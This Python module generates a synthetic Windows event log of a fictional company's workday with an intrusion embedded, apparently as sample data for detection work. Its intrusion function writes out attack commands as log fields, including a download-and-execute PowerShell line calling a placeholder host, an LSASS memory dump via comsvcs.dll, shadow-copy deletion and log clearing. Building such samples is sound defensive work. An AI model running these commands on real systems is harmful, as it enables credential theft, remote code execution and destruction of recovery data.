"""The sample event file: a working day at a made-up company with an intrusion in it, the same for the same seed.

The events are written here from knowledge of the formats (Sysmon 1, 3, 10, 11, 13; Security 4624, 4688, 1102; System
7045; PowerShell 4104). No recording was used, and no host, account or address in it exists.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta

NAME = "sample-workday.jsonl"
QUIET_EVENTS = 600
SYSMON = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
PROVIDERS = {
    ("Security", 1102): "Microsoft-Windows-Eventlog",
    ("Security", 4624): "Microsoft-Windows-Security-Auditing",
    ("System", 7045): "Service Control Manager",
}
WORKSTATIONS = ("WS-0117", "WS-0142", "WS-0163", "WS-0188", "WS-0201")
SERVERS = ("SRV-FILE01", "SRV-APP02")
DOMAIN = "lindenau.example"
PEOPLE = ("m.okafor", "j.lindqvist", "p.ramanathan", "s.moreau", "t.nakagawa", "l.brandt")
PROGRAMS = (
    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", r"C:\Windows\explorer.exe", "EXCEL.EXE /dde"),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r"C:\Windows\explorer.exe",
        "chrome.exe --type=renderer",
    ),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\services.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\conhost.exe", r"C:\Windows\System32\cmd.exe", r"conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Windows\System32\notepad.exe", r"C:\Windows\explorer.exe", r"notepad.exe C:\Users\Public\notes.txt"),
    (r"C:\Program Files\7-Zip\7zG.exe", r"C:\Windows\explorer.exe", "7zG.exe a monthly-report.7z"),
)


@dataclass(slots=True)
class _Day:
    """Collects events and numbers them per computer and channel, as Windows does."""

    begins: datetime
    chance: random.Random
    events: list[tuple[datetime, dict[str, object]]] = field(default_factory=list)
    numbers: dict[tuple[str, str], int] = field(default_factory=dict)

    def add(self, minutes: float, computer: str, channel: str, event_id: int, fields: Mapping[str, str]) -> None:
        at = self.begins + timedelta(minutes=minutes)
        key = (computer, channel)
        self.numbers[key] = self.numbers.get(key, 41_000) + 1
        system: dict[str, object] = {
            "Provider": {"#attributes": {"Name": PROVIDERS.get((channel, event_id), channel.partition("/")[0])}},
            "EventID": event_id,
            "Channel": channel,
            "Computer": f"{computer}.{DOMAIN}",
            "EventRecordID": self.numbers[key],
            "TimeCreated": {
                "#attributes": {"SystemTime": at.isoformat(timespec="milliseconds").replace("+00:00", "Z")}
            },
        }
        self.events.append((at, {"Event": {"System": system, "EventData": dict(fields)}}))

    def process(self, minutes: float, computer: str, user: str, *, image: str, parent: str, command: str) -> None:
        self.add(
            minutes,
            computer,
            SYSMON,
            1,
            {
                "UtcTime": (self.begins + timedelta(minutes=minutes)).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "ProcessId": str(self.chance.randrange(1_000, 30_000, 4)),
                "Image": image,
                "CommandLine": command,
                "CurrentDirectory": "C:\\Windows\\system32\\",
                "User": f"LINDENAU\\{user}",
                "IntegrityLevel": "Medium" if user in PEOPLE else "System",
                "ParentImage": parent,
                "ParentCommandLine": parent,
            },
        )


def sample_events(*, begins: datetime, seed: int) -> bytes:
    """JSON lines in the order of time; ``begins`` is the start of the working day, aware UTC."""
    day = _Day(begins=begins, chance=random.Random(seed))  # noqa: S311 - variety, not secrecy
    _quiet(day)
    _intrusion(day)
    return b"".join(_lines(day))


def _lines(day: _Day) -> Iterator[bytes]:
    for _at, event in sorted(day.events, key=lambda pair: pair[0]):
        yield json.dumps(event, ensure_ascii=False, separators=(",", ":")).encode() + b"\n"


def _quiet(day: _Day) -> None:
    for _ in range(QUIET_EVENTS):
        minutes, user = day.chance.uniform(0, 480), day.chance.choice(PEOPLE)
        computer = day.chance.choice(WORKSTATIONS)
        if day.chance.random() < 0.7:  # noqa: PLR2004 - most of a workstation's log is programs that start
            image, parent, command = day.chance.choice(PROGRAMS)
            day.process(minutes, computer, user, image=image, parent=parent, command=command)
        else:
            fields = {
                "TargetUserName": user,
                "TargetDomainName": "LINDENAU",
                "LogonType": "3",
                "IpAddress": "10.20.4.17",
            }
            day.add(minutes, day.chance.choice(SERVERS), "Security", 4624, {**fields, "LogonProcessName": "Kerberos"})


def _intrusion(day: _Day) -> None:
    """A document, a script, stolen credentials, a neighbour, and the traces wiped."""
    system32 = "C:\\Windows\\System32\\"
    shell = system32 + r"WindowsPowerShell\v1.0\powershell.exe"
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    first, second, user = "WS-0142", "SRV-FILE01", "s.moreau"
    encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    day.process(141.2, first, user, image=shell, parent=word, command=f"powershell.exe -NoP -W Hidden -Enc {encoded}")
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.24/u.ps1')"
    day.add(
        141.3,
        first,
        POWERSHELL,
        4104,
        {"ScriptBlockText": script, "Path": "", "MessageNumber": "1", "MessageTotal": "1"},
    )
    day.process(143.0, first, user, image=system32 + "whoami.exe", parent=shell, command="whoami /all")
    listing = 'net group "Domain Admins" /domain'
    day.process(143.4, first, user, image=system32 + "net.exe", parent=shell, command=listing)
    dump = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\d.bin full"
    day.process(151.8, first, "SYSTEM", image=system32 + "rundll32.exe", parent=shell, command=dump)
    day.add(
        151.9, first, SYSMON, 10,
        {
            "SourceImage": system32 + "rundll32.exe",
            "TargetImage": system32 + "lsass.exe",
            "GrantedAccess": "0x1fffff",
            "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d1e4|C:\Windows\System32\comsvcs.dll+27e01",
            "SourceUser": "NT AUTHORITY\\SYSTEM",
        },
    )  # fmt: skip
    day.add(
        163.5, second, "System", 7045,
        {
            "ServiceName": "UpdateHelper",
            "ImagePath": r"%COMSPEC% /c powershell.exe -nop -w hidden -c IEX ((gwmi Win32_Service).Name)",
            "ServiceType": "user mode service",
            "StartType": "demand start",
            "AccountName": "LocalSystem",
        },
    )  # fmt: skip
    for minutes, program, command in (
        (171.0, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        (171.6, "bcdedit.exe", "bcdedit /set {default} recoveryenabled no"),
    ):
        day.process(minutes, second, "SYSTEM", image=system32 + program, parent=system32 + "cmd.exe", command=command)
    day.add(
        179.0, second, "Security", 1102,
        {"SubjectUserName": "svc-backup", "SubjectDomainName": "LINDENAU", "SubjectLogonId": "0x3e7a1"},
    )  # fmt: skip
